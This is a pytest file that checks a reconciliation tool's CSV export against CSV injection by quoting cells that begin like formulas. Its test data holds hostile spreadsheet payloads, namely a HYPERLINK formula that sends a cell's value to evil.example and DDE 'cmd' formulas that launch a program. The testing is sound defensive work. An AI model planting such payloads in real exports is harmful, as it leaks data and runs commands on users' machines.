"""`reconciliation check --csv` opens safely in a spreadsheet: OWASP's rule against CSV injection."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

pytest.importorskip("pyarrow")

from reconciliation._cli.main import main
from reconciliation._cli.spreadsheet import spreadsheet_cell

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"AAPL")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
)


def statement(path: Path, rows: list[tuple[str, str]]) -> Path:
    with path.open("w", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(("symbol", "quantity", "avg_cost"))
        writer.writerows((symbol, quantity, "") for symbol, quantity in rows)
    return path


def check(tmp_path: Path, *output: str) -> Result:
    book = statement(tmp_path / "book.csv", [("AAPL", "-5")])
    broker = statement(tmp_path / "eod.csv", [("AAPL", "-7"), *((symbol, "1") for symbol in FORMULAS)])
    return CliRunner().invoke(main, ["check", "--local", str(book), "--broker", str(broker), *output])


def test_a_symbol_a_spreadsheet_would_evaluate_is_written_as_text(tmp_path: Path) -> None:
    ran = check(tmp_path, "--csv")

    assert ran.exit_code == 1, ran.output
    symbols = [row[2] for row in csv.reader(io.StringIO(ran.output))][1:]
    assert sorted(symbols) == sorted(["AAPL", *(f"'{formula}" for formula in FORMULAS)])


def test_every_field_of_the_csv_output_is_quoted(tmp_path: Path) -> None:
    ran = check(tmp_path, "--csv")

    for line in ran.output.splitlines():
        fields = next(csv.reader([line]))
        assert line == ",".join('"' + field.replace('"', '""') + '"' for field in fields)


def test_negative_figures_stay_numbers(tmp_path: Path) -> None:
    ran = check(tmp_path, "--csv")

    (aapl,) = [row for row in csv.reader(io.StringIO(ran.output)) if row[2] == "AAPL"]
    assert (aapl[5], aapl[6]) == ("-5", "-7")


def test_json_keeps_the_symbols_as_they_are(tmp_path: Path) -> None:
    ran = check(tmp_path, "--json")

    symbols = {payload["symbol"] for payload in json.loads(ran.output)["discrepancies"]}
    assert symbols == {"AAPL", *FORMULAS}


@pytest.mark.parametrize("cell", ["\tSUM(A1)", "\rSUM(A1)", "=A1", "+A1", "-A1", "@A1", "-1+1", "+", "-"])
def test_a_cell_starting_as_a_formula_is_prefixed_with_a_quote(cell: str) -> None:
    assert spreadsheet_cell(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", ["AAPL", "-12.50", "+3", "-.5", "", "A=B", "BRK-B"])
def test_plain_text_and_numbers_are_left_as_they_are(cell: str) -> None:
    assert spreadsheet_cell(cell) == cell
